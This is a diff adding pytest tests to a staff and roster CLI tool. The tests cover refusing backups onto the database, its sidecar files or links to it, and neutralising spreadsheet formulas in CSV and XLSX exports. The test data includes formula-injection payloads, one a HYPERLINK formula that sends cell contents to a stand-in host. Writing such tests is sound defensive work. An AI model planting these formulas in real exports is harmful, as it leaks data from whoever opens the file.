@@ -179,3 +179,92 @@ def test_failed_write_leaves_nothing(kerja, staffed, tmp_path, monkeypatch):
     monkeypatch.setattr(export, "write_csv", full_disk)
     kerja(*RECAP, "--format", "csv", "--keluar", target, "--timpa", code=1)
     assert target.read_text() == "lama" and leftovers(tmp_path) == []
+
+
+@pytest.mark.parametrize("sidecar", ["", "-wal", "-shm", "-journal", ".bak-v1"])
+def test_backup_never_onto_the_store_or_its_sidecars(kerja, staffed, sidecar):
+    """`kerja cadangkan` onto the store or a file of it: refused, --timpa or not (the -wal of a
+    closed store need not exist: refused by name)."""
+    before = db_bytes(staffed)
+    target = Path(str(staffed) + sidecar)
+    for extra in ([], ["--timpa"]):
+        r = kerja("cadangkan", target, *extra, code=1)
+        assert "basis data" in r.stderr or "sudah ada" in r.stderr, (sidecar, extra, r.stderr)
+    assert is_store(staffed) and db_bytes(staffed) == before
+    assert not Path(str(staffed) + ".bak-v1").exists()
+
+
+def test_links_to_the_store_are_the_store(kerja, staffed, tmp_path):
+    """A symbolic or a hard link to the store is the store: no export, error file or backup
+    replaces it, --timpa or not."""
+    before = db_bytes(staffed)
+    soft, hard = tmp_path / "tautan.db", tmp_path / "keras.db"
+    soft.symlink_to(staffed)
+    os.link(staffed, hard)
+    bad = tmp_path / "baru.csv"
+    bad.write_text("NIP;Nama;Unit\n123;Orang Salah;Dinas Uji\n")
+    for link in (soft, hard):
+        for args in writers(link):
+            assert "basis data" in kerja(*args, "--timpa", code=1).stderr, args
+        assert "basis data" in kerja("cadangkan", link, "--timpa", code=1).stderr
+        r = kerja("pegawai", "impor", bad, "--lewati-galat", link, "--timpa", code=1)
+        assert "basis data" in r.stderr
+    assert is_store(staffed) and db_bytes(staffed) == before and soft.is_symlink()
+
+
+EVIL = ['=HYPERLINK("http://x.test/?"&A1;"klik")', "=1+1", "-2+3", "@x", "+1"]
+
+
+def test_exports_neutralise_formula_cells(kerja, store, tmp_path):
+    """Names, posts and units that a spreadsheet would run as formulas: every CSV and XLSX that
+    holds them (recap, roster) has them as text, with the leading apostrophe."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    nips = [f"1985040420100110{i + 1:02d}" for i in range(len(EVIL))]
+    lines = ["NIP;Nama;Jabatan;Unit;TPP"]
+    for nip, evil in zip(nips, EVIL, strict=True):
+
+        def q(text: str) -> str:
+            return '"' + text.replace('"', '""') + '"'
+
+        lines.append(f"{nip};{q(evil)};{q(evil)};{q('Dinas Uji > ' + evil)};3000000")
+    f = tmp_path / "jahat.csv"
+    f.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    kerja("pegawai", "impor", f)
+    from roster_fixture import KUKAR
+
+    kerja("kebijakan", "tambah", KUKAR)
+    kerja("jadwal", "buat", "--mulai", "2021-02-01", "--sampai", "2021-02-05", code=None)
+
+    cells: dict[str, list[str]] = {}
+    for name, args in (
+        ("rekap.csv", [*RECAP, "--format", "csv"]),
+        ("jadwal.csv", [*ROSTER, "--format", "csv"]),
+    ):
+        kerja(*args, "--keluar", tmp_path / name)
+        with open(tmp_path / name, encoding="utf-8-sig", newline="") as fh:
+            sample = fh.read(4096)
+            fh.seek(0)
+            delim = ";" if sample.count(";") > sample.count(",") else ","
+            cells[name] = [c for row in csv.reader(fh, delimiter=delim) for c in row]
+    for name, args in (
+        ("rekap.xlsx", [*RECAP, "--format", "xlsx"]),
+        ("jadwal.xlsx", [*ROSTER, "--format", "xlsx"]),
+    ):
+        kerja(*args, "--keluar", tmp_path / name)
+        wb = load_workbook(tmp_path / name)
+        cells[name] = [
+            c
+            for ws in wb.worksheets
+            for row in ws.iter_rows(values_only=True)
+            for c in row
+            if isinstance(c, str)
+        ]
+    for name, written in cells.items():
+        assert "'" + EVIL[1] in written or any("'=1+1" in c for c in written), (name, written[:40])
+        for evil in EVIL:
+            # The value never stands alone as a cell, and no text cell starts a formula with it.
+            assert evil not in written, (name, evil)
+            assert not [c for c in written if c.startswith(evil)], (name, evil)
